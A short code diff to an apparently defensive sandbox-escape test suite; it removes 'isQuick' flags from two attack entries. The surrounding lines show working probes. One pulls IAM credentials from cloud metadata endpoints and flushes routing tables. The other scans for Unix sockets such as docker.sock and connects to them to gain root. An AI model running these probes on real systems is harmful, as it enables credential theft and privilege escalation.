@@ -36,7 +36,6 @@ export const network: Attack[] = [
   {
     name: 'network/metadata',
     wants: "The machine's credentials from the cloud's metadata endpoint.",
-    isQuick: true,
     order: () => ({
       script: `${CONNECT}; for a in 169.254.170.2 169.254.169.254 100.100.100.200; do connect $a 80 /latest/meta-data/iam/security-credentials/; done
         ip route delete unreachable 169.254.170.2; ip route flush table all; ip link set lo down; connect 169.254.170.2 80 /v2/credentials; true`,
@@ -53,7 +52,6 @@ export const network: Attack[] = [
   {
     name: 'network/sockets-in-run',
     wants: "The engine's socket, Redis', the system's: whoever connects there is root.",
-    isQuick: true,
     order: (ground) => ({
       script: `for s in ${sockets(ground).path} /run/*.sock /run/*/*.sock /run/*/* /var/run/docker.sock ${ground.stage.parts.directory}/*/*.sock /var/lib/floe*/*/*/*.sock; do
           [ -S $s ] && echo "sees $s" && timeout 1 perl -MSocket -e '$| = 1; socket S, AF_UNIX, SOCK_STREAM, 0; print "connected to $ARGV[0]\\n" if connect S, sockaddr_un($ARGV[0]); sysread S, $a, 999; print $a' $s
